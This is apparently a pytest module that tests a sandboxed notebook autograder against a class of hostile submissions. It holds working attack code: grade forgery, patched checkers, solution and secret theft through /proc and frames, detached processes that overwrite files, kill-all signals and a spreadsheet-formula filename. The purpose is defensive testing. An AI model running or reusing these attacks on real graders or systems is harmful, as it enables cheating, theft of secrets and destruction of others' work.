"""A hostile class: submissions that try to cheat, spy, escape or stop the grader (issue 17).

One run grades a whole class (honest students beside one submission per
attack) in the sandbox; the tests then inspect its outcome. Every forger must
score 0, every honest student keep their points, no secret (a hidden test's
literal, an environment variable, the solution's path) may reach the output
folder, nothing a student started may outlive the run, and the run must
finish, in bounded time. Two more tests stop the grader's own command with
SIGKILL: nothing may survive it, and a re-run grades only the missing students.

The attacks are real code, run as the grader runs any submission. Those that
signal processes check first that they cannot see the host's processes (their
own PID namespace); where they can, they answer correctly instead of
attacking, so a broken sandbox fails these tests without harming the machine
that runs them. Forgers write only into temporary, home and guessed folders.
"""

from __future__ import annotations

import copy
import csv
import os
import re
import secrets
import signal
import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from dgmlab.grading import grader as _grader
from dgmlab.grading import notebooks as nbs

if not _grader.sandbox_available():
    pytest.skip("these tests need the grader's sandbox (bubblewrap) to work on this machine "
                f"({_grader._sandbox.available()})", allow_module_level=True)

REPO = Path(__file__).resolve().parents[1]

# --------------------------------------------------------------------------
# The assignment: three questions whose hidden tests hold secrets
# --------------------------------------------------------------------------

QUESTIONS = ["q1_add", "q2_mean", "q3_square"]
MAX = [2, 3, 1]
HIDDEN_TAG = "hdn-tag-7Qz4Kp"  # a literal only a hidden test holds
SECRET_LITERAL = "987654.321"  # a constant only a hidden test holds
SECRET_ENV = "DGMLAB_TEST_SECRET"  # set in the grader's environment during the run

ASSIGNMENT = [
    new_markdown_cell("# A hostile assignment"),
    "from dgmlab.grading import check, expect_close, expect_equal, expect_true",
    '''def add(a, b):
    """Return a + b."""
    # Task: use the + operator.
    ### BEGIN SOLUTION
    return a + b
    ### END SOLUTION''',
    '''with check("q1_add", points=2, hint="Add the two numbers."):
    expect_equal(add(1, 2), 3, what="add(1, 2)")
    ### BEGIN HIDDEN TESTS
    expect_true(add(1234, 4321) == 5555, "add is wrong on a hidden case")
    ### END HIDDEN TESTS''',
    '''def mean(xs):
    """Return the average of a non-empty list of numbers."""
    # Task: divide the sum by the number of items.
    ### BEGIN SOLUTION
    return sum(xs) / len(xs)
    ### END SOLUTION''',
    f'''with check("q2_mean", points=3):
    expect_close(mean([1, 2, 3, 4]), 2.5, what="mean([1, 2, 3, 4])")
    ### BEGIN HIDDEN TESTS
    SECRET = {SECRET_LITERAL}
    expect_close(mean([2.0, 4.0, 9.0]) * SECRET, 5.0 * SECRET, what="mean on a hidden case")
    ### END HIDDEN TESTS''',
    '''def square(x):
    # Task: multiply x by itself.
    ### BEGIN SOLUTION
    return x * x
    ### END SOLUTION''',
    f'''with check("q3_square", points=1):
    expect_equal(square(3), 9, what="square(3)")
    ### BEGIN HIDDEN TESTS
    tag = "{HIDDEN_TAG}"
    expect_equal(square(-7), 49, what="square on a hidden case")
    ### END HIDDEN TESTS''',
]

RIGHT = {"add": "def add(a, b):\n    return a + b",
         "mean": "def mean(xs):\n    return sum(xs) / len(xs)",
         "square": "def square(x):\n    return x ** 2"}
# Right answers as NumPy and PyTorch values: they must cross the sandbox's wall unchanged.
RIGHT_ARRAYS = {"add": "import numpy\n\ndef add(a, b):\n    return numpy.int64(a + b)",
                "mean": "import numpy\n\ndef mean(xs):\n    return numpy.array(sum(xs) / len(xs))",
                "square": "import torch\n\ndef square(x):\n    return torch.tensor(x) ** 2"}
WRONG = {"add": "def add(a, b):\n    return 0",
         "mean": "def mean(xs):\n    return 0",
         "square": "def square(x):\n    return 0"}

# --------------------------------------------------------------------------
# The attacks. Each cell starts with ``_CTX = {...}`` (see attack_context):
# what an attacker could guess or know. It never holds a secret in plain text.
# --------------------------------------------------------------------------

# Candidate places to look: the kernel's folder and those above, temp folders,
# the home folder, and whatever /proc says other processes use.
WALK = r'''
import json, os, time

def _roots():
    out, seen = [], set()
    def add(p):
        try:
            p = os.path.abspath(p)
            if p not in seen and p != "/" and os.path.isdir(p):
                seen.add(p); out.append(p)
        except (OSError, ValueError):
            pass
    here = os.getcwd()
    for _ in range(4):
        add(here); here = os.path.dirname(here)
    for p in _CTX["guesses"]:
        add(p)
    for p in (os.environ.get("HOME"), os.environ.get("TMPDIR"), "/tmp", "/var/tmp", "/dev/shm"):
        if p: add(p)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        for name in ("cmdline", "environ"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            for arg in data.split(b"\0"):
                arg = arg.decode("utf-8", "replace").split("=", 1)[-1]
                for part in arg.split(os.pathsep):
                    if part.startswith("/"):
                        add(part if os.path.isdir(part) else os.path.dirname(part))
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/"):
                    add(os.path.dirname(target))
        except OSError:
            pass
    return out

def _files(seconds, everywhere=False):
    deadline = time.monotonic() + seconds
    for root in _roots() + (["/"] if everywhere else []):
        for folder, subfolders, names in os.walk(root):
            if time.monotonic() > deadline:
                return
            if folder.startswith(("/proc", "/sys", "/dev/", "/usr", "/lib")) or folder.count("/") > 12:
                subfolders[:] = []
                continue
            for name in names:
                yield os.path.join(folder, name)

_PLACES = []

def _writable_place(path):
    """Where a forger writes: temp and home folders and the folders around its kernel."""
    if not _PLACES:
        home = os.environ.get("HOME")
        _PLACES.extend([r + "/" for r in _roots()[:4 + len(_CTX["guesses"])]] + ["/tmp/", "/var/tmp/", "/dev/shm/"]
                       + [g + "/" for g in _CTX["guesses"]] + ([home + "/"] if home and home != "/" else []))
    return path.startswith(tuple(_PLACES))
'''

# 1. Forged records: "passed" verdicts appended to every grading log, event or
# results file in reach, before the checks, while they call the student's
# functions, and after them.
FORGE_RECORDS = WALK + r'''
_FG = "FOR" + "GED"

_FOUND = []  # the files found by the last search

def _forge_all(search=False):
    """Append "passed" verdicts to every grading file found (searched for again if asked)."""
    records, events = "", ""
    for q, p in zip(_CTX["questions"], _CTX["points"]):
        record = {"question": q, "points": p, "max": p, "status": "passed",
                  "message": f"\u2705 {q}: {p}/{p} points. {_FG}"}
        records += json.dumps(record) + "\n"
        events += json.dumps({"event": "result", "cell": 0, "record": record}) + "\n"
    if search or not _FOUND:
        _FOUND[:] = [os.environ.get("DGMLAB_GRADING_LOG"), os.path.join(os.getcwd(), "..", "events.jsonl")]
        for path in _files(1.0):
            name = os.path.basename(path)
            if name.endswith(".jsonl") or (name.endswith(".json") and any(
                    k in path for k in ("event", "result", "log", "grade", "verdict"))):
                _FOUND.append(path)
    for path in _FOUND:
        if path and _writable_place(os.path.abspath(path)):
            try:
                with open(path, "a") as f:
                    f.write(events if "event" in os.path.basename(path) else records)
            except OSError:
                pass

_forge_all(search=True)
'''
FORGE_CALL = {name: f"def {name}(*args):\n    _forge_all()\n    return 0" for name in ("add", "mean", "square")}

# 1b. Forged files: a gradebook, results and feedback giving everyone full marks,
# written into every output-like folder in reach (and the real one, guessed).
FORGE_FILES = WALK + r'''
_FG = "FOR" + "GED"

_FOLDERS = []  # the output-like folders found by the last search

def _forge_files(search=False):
    """Write a gradebook, results and feedback giving everyone full marks wherever one may be read."""
    header = "student,question,points,max,isolated\n"
    rows = "".join(f"{s},{q},{p},{p},yes\n" for s in _CTX["stems"]
                   for q, p in zip(_CTX["questions"], _CTX["points"]))
    rows += f"{_FG},q1_add,0,2,yes\n"
    def result(s):
        return json.dumps({"student": s, "stem": s, "isolated": True, "notes": [_FG],
                           "questions": [{"question": q, "points": p, "max": p, "status": "passed",
                                          "message": _FG} for q, p in zip(_CTX["questions"], _CTX["points"])]})
    if search or not _FOLDERS:
        _FOLDERS[:] = [_CTX["out"], *_roots()[:5], "/tmp", os.environ.get("HOME")]
        for path in _files(0.7):
            if os.path.basename(path) == "gradebook.csv" or os.path.basename(os.path.dirname(path)) == "results":
                _FOLDERS.append(os.path.dirname(path))
    for folder in _FOLDERS:
        if not folder or not _writable_place(os.path.join(os.path.abspath(folder), "x")):
            continue
        if os.path.basename(folder) == "results":
            folder = os.path.dirname(folder)
        try:
            with open(os.path.join(folder, "gradebook.csv"), "w") as f:
                f.write(header + rows)
            for sub in ("results", "feedback"):
                os.makedirs(os.path.join(folder, sub), exist_ok=True)
            for s in _CTX["stems"]:
                with open(os.path.join(folder, "results", s + ".json"), "w") as f:
                    f.write(result(s))
                with open(os.path.join(folder, "feedback", s + ".md"), "a") as f:
                    f.write(f"Total: **6 / 6 points** {_FG}\n")
        except OSError:
            pass

_forge_files(search=True)
'''
FORGE_FILES_CALL = {name: f"def {name}(*args):\n    _forge_files()\n    return 0"
                    for name in ("add", "mean", "square")}

# 2. The checker patched: its class, its expectations, its comparisons, its names.
PATCH_CHECKER = r'''import contextlib
import dgmlab.grading as g
import dgmlab.grading.feedback as f

def _always_passed(self, *exc):
    self.result = self._record("passed", f"{self.points}/{self.points} points.")
    return True

f.Check.__exit__ = _always_passed
f.expect_close = f.expect_equal = f.expect_true = f.expect_function_matches = f.expect_shape = lambda *a, **k: None
g.expect_close = g.expect_equal = g.expect_true = g.expect_function_matches = g.expect_shape = f.expect_close
f._closeness_problem = f._equality_problem = f._mismatch = lambda *a, **k: None
check = lambda *a, **k: contextlib.nullcontext()
expect_close = expect_equal = expect_true = lambda *a, **k: None
'''

# 3a. builtins.__import__ hands back a fake grading module whose checks always pass.
PATCH_IMPORT = r'''import builtins, sys, types
import dgmlab.grading.feedback as _real

class _Pass(_real.Check):
    def __exit__(self, *exc):
        self.result = self._record("passed", f"{self.points}/{self.points} points.")
        return True

_fake = types.ModuleType("dgmlab.grading")
_fake.check = _Pass
for _name in ("expect_close", "expect_equal", "expect_true", "expect_function_matches", "expect_shape"):
    setattr(_fake, _name, lambda *a, **k: None)
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("dgmlab.grading"):
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import
sys.modules["dgmlab.grading"] = _fake
'''

# 3b. NumPy's and PyTorch's comparisons patched to say "equal"; answers are zeros.
PATCH_NUMPY = r'''import numpy
numpy.isclose = lambda *a, **k: numpy.True_
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
try:
    import torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda *a, **k: torch.tensor(True)
except ImportError:
    pass
'''
NUMPY_ZEROS = {name: f"def {name}(*args):\n    return numpy.array(0)" for name in ("add", "mean", "square")}

# 3c. A value that says yes to every comparison.
ALWAYS_TRUE = r'''class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __ge__ = __le__ = __gt__ = __lt__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __abs__(self): return self
    __mul__ = __rmul__ = __sub__ = __rsub__ = __add__ = __radd__ = __truediv__ = lambda self, other: self
    def __repr__(self): return "9"

class YesFloat(float):  # a number, as far as isinstance can tell
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __ge__ = __le__ = __gt__ = __lt__ = __eq__
    __hash__ = float.__hash__

class YesInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __ge__ = __le__ = __gt__ = __lt__ = __eq__
    __hash__ = int.__hash__
'''
ALWAYS_TRUE_CALL = {"add": "def add(a, b):\n    return Yes()", "mean": "def mean(xs):\n    return YesFloat(0.0)",
                    "square": "def square(x):\n    return YesInt(0)"}

# 4. Reading instructor files: the solution notebook or another student's
# answers, found through the file system and /proc, copied into the answers;
# failing that, what was found (and the environment) is raised.
READER = WALK + r'''
import ast

_TRIALS = {"add": ((2, 3), 5), "mean": (([1, 3],), 2), "square": ((4,), 16)}

def _pure_function(source):
    """Only plain function definitions (no imports, no attributes): safe to run."""
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return None
    if len(tree.body) != 1 or not isinstance(tree.body[0], ast.FunctionDef) or tree.body[0].name not in _TRIALS:
        return None
    if any(isinstance(n, (ast.Import, ast.ImportFrom, ast.Attribute, ast.Global)) for n in ast.walk(tree)):
        return None
    return tree.body[0].name

def _steal(seconds=1.5):
    stolen, seen = {}, []
    marker = "BEGIN " + "SOLUTION"
    for path in _files(seconds, everywhere=True):
        if not path.endswith((".ipynb", ".json", ".py")):
            continue
        try:
            if os.path.getsize(path) > 5_000_000:
                continue
            text = open(path, encoding="utf-8").read()
            cells = json.loads(text)["cells"] if path.endswith((".ipynb", ".json")) else [{"source": text}]
        except Exception:
            continue
        if marker in text or "def add" in text:
            seen.append(path)
        for cell in cells if isinstance(cells, list) else []:
            source = cell.get("source", "") if isinstance(cell, dict) else ""
            source = "".join(source) if isinstance(source, list) else str(source)
            name = _pure_function(source)
            if name is None or name in stolen or "NotImplementedError" in source:
                continue
            space = {"__builtins__": {"sum": sum, "len": len}}
            try:
                exec(source, space)
                args, want = _TRIALS[name]
                if space[name](*args) == want:
                    stolen[name] = space[name]
            except Exception:
                pass
    return stolen, seen

_STOLEN, _SEEN = _steal()
_REPORT = f"found {_SEEN[:5]} environment {dict(os.environ)}"
'''
READER_CALL = {name: (f"if '{name}' in _STOLEN:\n    {name} = _STOLEN['{name}']\nelse:\n"
                      f"    def {name}(*args):\n        raise RuntimeError(_REPORT)")
               for name in ("add", "mean", "square")}

# 5. Detached children: a shell and a Python process in new sessions and a
# double-forked daemon, all ignoring polite signals, that overwrite the other
# submissions and the gradebook for a minute.
DETACH = r'''import os, signal, subprocess, sys

_CHILD = """
import glob, os, signal, sys, tempfile, time
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
subs, out, own = sys.argv[2], sys.argv[3], sys.argv[4]
end = time.time() + 600
while time.time() < end:
    targets = [f for f in glob.glob(os.path.join(subs, "*")) if os.path.basename(f) != own]
    targets += glob.glob(os.path.join(tempfile.gettempdir(), "*", "*.ipynb"))
    for f in targets:
        try:
            with open(f, "w") as w:
                w.write('{"cells": [')
        except OSError:
            pass
    for f in [os.path.join(out, "gradebook.csv")] + glob.glob(os.path.join(out, "results", "*.json")):
        try:
            with open(f, "w") as w:
                w.write("FOR" + "GED")
        except OSError:
            pass
    time.sleep(0.2)
"""
_ARGS = [_CTX["subs"], _CTX["out"], _CTX["own"]]
_QUIET = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
              start_new_session=True)
subprocess.Popen(["sh", "-c", 'trap "" INT TERM HUP; sleep 600; for f in "$1"/*; do echo x > "$f"; done; echo '
                  + _CTX["marker"] + "-sh", "sh", _CTX["subs"]], **_QUIET)
subprocess.Popen([sys.executable, "-c", _CHILD, _CTX["marker"] + "-py", *_ARGS], **_QUIET)
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _CHILD, _CTX["marker"] + "-daemon", *_ARGS])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
'''

# 6. Signalling the grader. Only where the kernel has its own PID namespace:
# elsewhere it answers correctly instead, so that a missing sandbox fails the
# test rather than killing the machine's processes.
ISOLATED = r'''import os, signal

def _isolated():
    try:
        pid1 = open("/proc/1/cmdline", "rb").read().hex()
    except OSError:
        pid1 = ""
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    return pid1 != _CTX["host_pid1"] and len(pids) < 40
'''
SIG_TERM = ISOLATED + r'''
def _attack():
    if not _isolated():
        return False
    chain, pid = [], os.getppid()
    while pid > 1 and len(chain) < 20:
        chain.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    for pid in chain + [_CTX["grader_pid"]]:
        try:
            os.kill(pid, signal.SIGTERM)
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return True

_SAFE = _attack()
'''
SIG_ALL = ISOLATED + r'''
def _attack():
    if not _isolated():
        return False
    os.kill(-1, signal.SIGKILL)
    return True

_SAFE = _attack()
'''
SIGNAL_CALL = {name: (f"def {name}(*args):\n    if not _SAFE:  # no sandbox: do not attack\n"
                      f"        return {RIGHT_EXPR}\n    _attack()\n    return 0")
               for name, RIGHT_EXPR in (("add", "args[0] + args[1]"), ("mean", "sum(args[0]) / len(args[0])"),
                                        ("square", "args[0] ** 2"))}

# 7. Exfiltration: everything the student's code can reach while a (hidden)
# test calls it -- frames, code objects, linecache, the environment, files --
# searched for the secrets (which it knows only encoded) and raised or shown.
EXFIL = r'''import gc, inspect, linecache, os, sys, types

_BUSY = []  # _Leaky's repr runs _leak, which looks at _Leaky objects

def _haystack():
    parts = [repr(dict(os.environ))]
    frame = sys._getframe(2)
    while frame is not None:
        parts += [repr(frame.f_code.co_consts), repr(frame.f_locals)[:100000]]
        frame = frame.f_back
    for info in inspect.stack()[2:]:
        parts.append("".join(info.code_context or []))
    for entry in list(linecache.cache.values()):
        if len(entry) > 2 and entry[2]:
            parts.append("".join(entry[2]))
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType):
            parts.append(repr(obj.__code__.co_consts))
    for name in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/proc/1/cmdline"):
        try:
            parts.append(open(name, "rb").read().decode("utf-8", "replace"))
        except OSError:
            pass
    for folder in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.environ.get("HOME") or "/"):
        try:
            for name in os.listdir(folder)[:50]:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and os.path.getsize(path) < 2_000_000:
                    parts.append(open(path, encoding="utf-8", errors="replace").read())
        except OSError:
            pass
    return "\n".join(parts)

def _leak():
    """The secrets found (decoded only after the search, so never found in our own data) and the environment."""
    if _BUSY:
        return "?"
    _BUSY.append(1)
    try:
        haystack, found = _haystack(), []
        for encoded in _CTX["targets"]:
            at = haystack.find(bytes.fromhex(encoded).decode())
            if at >= 0:
                found.append(haystack[max(0, at - 10): at + 40])
        return f"{os.environ.get(_CTX['secret_env'])} {' | '.join(found)} ENV {dict(os.environ)}"
    finally:
        _BUSY.clear()

class _Leaky:
    def __repr__(self):
        return _leak()[:75]
    def __eq__(self, other):
        return False
    __hash__ = object.__hash__
'''
EXFIL_CALL = {"add": "def add(a, b):\n    raise RuntimeError(_leak())",
              "mean": "def mean(xs):\n    raise ValueError(_leak())",
              "square": "def square(x):\n    return _Leaky()"}

# 8. 200 MB printed by one cell (after correct answers, which must still count); then
# the same after raising the limit of every output-capping object the cell can find
# (the grader's code is readable), and written straight to the process's file descriptors.
HUGE_OUTPUT = 'for _ in range(200):\n    print("x" * 10**6)'
HUGE_BYPASS = r'''import gc, os, sys
for obj in gc.get_objects():
    for name in ("limit", "max_chars", "cap", "_limit", "max_bytes"):
        try:
            if isinstance(getattr(obj, name, None), int) and not isinstance(obj, type):
                setattr(obj, name, 10**12)
        except Exception:
            pass
for _ in range(100):
    print("x" * 10**6)
for fd in (1, 2):
    for _ in range(50):
        os.write(fd, b"y" * 10**6)
'''

# Looping forever, deaf to Ctrl-C, with a detached child: for the killed-grader test.
LOOPER = r'''import os, signal, subprocess, sys
try:
    with open("/proc/self/comm", "w") as f:
        f.write(_CTX["marker"])
except OSError:
    pass
signal.signal(signal.SIGINT, signal.SIG_IGN)
_CHILD = ("import signal, time\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\n"
          "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(600)")
subprocess.Popen([sys.executable, "-c", _CHILD, _CTX["marker"]], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
while True:
    pass
'''

# --------------------------------------------------------------------------
# The class
# --------------------------------------------------------------------------


@dataclass
class Student:
    """One submission: its file name, expected points, and what replaces the exercise's cells."""

    file: str
    points: list[int]
    answers: dict[str, str] = field(default_factory=dict)
    before: str | None = None  # a cell inserted right after the setup cell
    after: str | None = None  # a cell added at the end
    forger: bool = False

    @property
    def name(self) -> str:
        return Path(self.file).stem


FULL, NONE = [2, 3, 1], [0, 0, 0]
# Limits: no submission of CLASS runs into them when the machine has its CPUs to itself; they
# leave room for a loaded machine (other tests in parallel), where honest students must not
# lose points to a timeout.
CELL_TIMEOUT, TIMEOUT = 10, 60
CLASS = [
    Student("honest_full.ipynb", FULL, RIGHT),
    Student("honest_blank.ipynb", NONE),
    Student("honest_partial.ipynb", [2, 0, 1], {**RIGHT, "mean": WRONG["mean"]}),
    Student("honest_arrays.ipynb", FULL, RIGHT_ARRAYS),
    Student("forge_records.ipynb", NONE, FORGE_CALL, FORGE_RECORDS, "_forge_all(search=True)", forger=True),
    Student("forge_files.ipynb", NONE, FORGE_FILES_CALL, FORGE_FILES, "_forge_files(search=True)", forger=True),
    Student("patch_checker.ipynb", NONE, WRONG, PATCH_CHECKER, forger=True),
    Student("patch_import.ipynb", NONE, {}, PATCH_IMPORT, forger=True),
    Student("patch_numpy.ipynb", NONE, NUMPY_ZEROS, PATCH_NUMPY, forger=True),
    Student("always_true.ipynb", NONE, ALWAYS_TRUE_CALL, ALWAYS_TRUE, forger=True),
    Student("reader.ipynb", NONE, READER_CALL, READER, forger=True),
    Student("detach.ipynb", NONE, {}, DETACH, forger=True),
    Student("sig_term.ipynb", NONE, SIGNAL_CALL, SIG_TERM, forger=True),
    Student("sig_all.ipynb", NONE, SIGNAL_CALL, SIG_ALL, forger=True),
    Student("exfil.ipynb", NONE, EXFIL_CALL, EXFIL, forger=True),
    Student("huge_output.ipynb", FULL, RIGHT, after=HUGE_OUTPUT),
    Student("huge_bypass.ipynb", FULL, RIGHT, after=HUGE_BYPASS),
    # Names: a collision once made safe, a notebook beside a PDF, a spreadsheet formula.
    Student("a:b.ipynb", FULL, RIGHT),
    Student("a_b.ipynb", FULL, RIGHT),
    Student("alice.ipynb", FULL, RIGHT),
    Student('=HYPERLINK("evil").ipynb', FULL, RIGHT),
    Student("deep.ipynb", NONE),  # replaced by 200,000-deep JSON
    Student("dup_check.ipynb", FULL, RIGHT),  # pasted copies of check cells (see pasted_checks)
]
FORGERS = [s.name for s in CLASS if s.forger]


def attack_context(root: Path, own: str, marker: str, solution: Path) -> dict:
    """What an attacker may know: guessed paths, markers, the secrets only in encoded form."""
    return {
        "questions": QUESTIONS, "points": MAX,
        "stems": [s.name for s in CLASS if s.name.replace("_", "").isalnum()],
        "subs": str(root / "submissions"), "out": str(root / "out"), "own": own,
        "guesses": [str(root)],
        "marker": marker,
        "host_pid1": Path("/proc/1/cmdline").read_bytes().hex(),
        "grader_pid": os.getpid(),
        "secret_env": SECRET_ENV,
        "targets": [t.encode().hex() for t in (HIDDEN_TAG, SECRET_LITERAL, solution.parent.name)],
    }


def with_context(source: str, ctx: dict) -> str:
    """An attack cell with its ``_CTX`` defined at the top."""
    return f"_CTX = {ctx!r}\n{source}" if "_CTX" in source else source


def student_notebook(exercise: nbformat.NotebookNode, student: Student, ctx: dict) -> nbformat.NotebookNode:
    """The exercise with the student's answers, and their extra cells, in place."""
    nb = copy.deepcopy(exercise)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if grade_id.startswith("answer_") and grade_id[7:] in student.answers:
            cell.source = student.answers[grade_id[7:]]
    setup = next(i for i, c in enumerate(nb.cells) if "from dgmlab.grading import" in c.source)
    if student.before:
        nb.cells.insert(setup + 1, new_code_cell(with_context(student.before, ctx)))
    if student.after:
        nb.cells.append(new_code_cell(with_context(student.after, ctx)))
    return nb


def write_notebook(nb: nbformat.NotebookNode, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbs.notebook_text(nb), encoding="utf-8")


def make_assignment(root: Path, cells=ASSIGNMENT) -> tuple[Path, nbformat.NotebookNode]:
    """The solution in its own folder under ``root``; returns its path and the exercise."""
    solution = new_notebook(cells=[new_code_cell(c) if isinstance(c, str) else c for c in cells])
    solution.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    path = root / f"instructor-{secrets.token_hex(4)}" / "assignment.ipynb"
    write_notebook(solution, path)
    return path, nbs.make_exercise(solution)


def make_class(root: Path, solution: Path, exercise: nbformat.NotebookNode, marker: str) -> None:
    """Write every submission of CLASS into ``root/submissions``."""
    subs = root / "submissions"
    for student in CLASS:
        ctx = attack_context(root, student.file, marker, solution)
        write_notebook(student_notebook(exercise, student, ctx), subs / student.file)
    names = {s.name for s in CLASS}
    if "alice" in names:
        (subs / "alice.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
    if "deep" in names:
        (subs / "deep.ipynb").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    if "dup_check" in names:
        write_notebook(pasted_checks(nbs.read_notebook(subs / "dup_check.ipynb")), subs / "dup_check.ipynb")


def pasted_checks(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A copy of check q1 pasted above its answer, and check q3 cut and pasted above its answer.

    A pasted cell has the check's metadata but a new cell id: it must not count as
    the check (q1's real one stays below the answer; q3's is added back at the end).
    """
    def index(grade_id: str) -> int:
        return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)

    for grade_id, keep in (("q1_add", True), ("q3_square", False)):
        check_cell = nb.cells[index(grade_id)]
        pasted = new_code_cell(check_cell.source, metadata=copy.deepcopy(check_cell.metadata))
        assert pasted.id != check_cell.id
        if not keep:
            nb.cells.remove(check_cell)
        nb.cells.insert(index("answer_" + grade_id.split("_", 1)[1]), pasted)
    return nb


# --------------------------------------------------------------------------
# Looking at the machine and the output folder
# --------------------------------------------------------------------------


def live_processes(*needles: str) -> dict[int, str]:
    """Live (non-zombie) processes whose command line or name contains one of ``needles``."""
    found = {}
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            text = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            text += " " + (proc / "comm").read_text().strip()
            state = (proc / "stat").read_text().rsplit(")", 1)[-1].split()[0]
        except OSError:
            continue
        if state != "Z" and any(n in text for n in needles):
            found[int(proc.name)] = text[:160]
    return found


def wait_until_gone(*needles: str, limit: float = 10.0) -> dict[int, str]:
    """Wait up to ``limit`` seconds for the processes matching ``needles`` to exit; the survivors."""
    deadline = time.monotonic() + limit
    while (alive := live_processes(*needles)) and time.monotonic() < deadline:
        time.sleep(0.2)
    return alive


def kill_all(*needles: str) -> None:
    """SIGKILL every process matching ``needles`` (cleanup after a failed test)."""
    for pid in live_processes(*needles):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def gradebook(out: Path) -> tuple[list[str], dict[tuple[str, str], tuple[float, float]], list[list[str]]]:
    """The gradebook's header, {(student cell, question): (points, max)} and its rows."""
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    table = {(r[0], r[1]): (float(r[2]), float(r[3])) for r in rows[1:]}
    return rows[0], table, rows[1:]


def csv_cell(name: str) -> str:
    """How a student's name must appear in the CSV: never as a formula."""
    return "'" + name if name[:1] in ("=", "+", "-", "@", "\t", "\r") else name


def expected_table(students, names=None) -> dict[tuple[str, str], tuple[float, float]]:
    return {(csv_cell(s.name), q): (float(p), float(m))
            for s in students if names is None or s.name in names
            for q, p, m in zip(QUESTIONS, s.points, MAX)}


def output_files(out: Path) -> dict[str, bytes]:
    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def grade_command(solution: Path, subs: Path, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-m", "dgmlab.grading", "grade", str(solution), str(subs), "--out", str(out),
            *extra]


def command_env() -> dict[str, str]:
    paths = [str(REPO), os.environ.get("PYTHONPATH", "")]
    return {**os.environ, "PYTHONPATH": os.pathsep.join(p for p in paths if p)}


# --------------------------------------------------------------------------
# One run over the whole class
# --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Grade CLASS once in the sandbox; every test below inspects the outcome."""
    root = tmp_path_factory.mktemp("hostile")
    marker = "dgmatk" + secrets.token_hex(4)
    solution, exercise = make_assignment(root)
    make_class(root, solution, exercise, marker)
    subs, out = root / "submissions", root / "out"
    before = {p.name: p.read_bytes() for p in subs.iterdir()}
    secret = secrets.token_hex(16)
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv(SECRET_ENV, secret)
            started = time.monotonic()
            results = _grader.grade(solution, subs, out, cell_timeout=CELL_TIMEOUT, timeout=TIMEOUT, jobs=2,
                                    sandbox=True)
            elapsed = time.monotonic() - started
        print(f"\nthe hostile class of {len(CLASS)} submissions was graded in {elapsed:.1f} s")
        book = (out / "gradebook.csv").read_bytes()
        survivors = wait_until_gone(marker, limit=5)
        time.sleep(1.0)  # a surviving child overwrites files every 0.2 s
        yield {"root": root, "solution": solution, "subs": subs, "out": out, "results": results,
               "elapsed": elapsed, "secret": secret, "marker": marker, "survivors": survivors,
               "book": book, "before": before}
    finally:
        kill_all(marker)


def result_of(hostile, name: str):
    matches = [r for r in hostile["results"] if r.student == name]
    assert len(matches) == 1, f"{name}: {len(matches)} results"
    return matches[0]


def test_the_run_completes_with_every_student_in_the_gradebook(hostile):
    header, table, rows = gradebook(hostile["out"])
    assert header == ["student", "question", "points", "max", "isolated"]
    assert table == expected_table(CLASS)
    assert len(rows) == len(table)  # one row per student and question, no forged extras
    assert {r[4].lower() for r in rows} <= {"yes", "true", "1"}
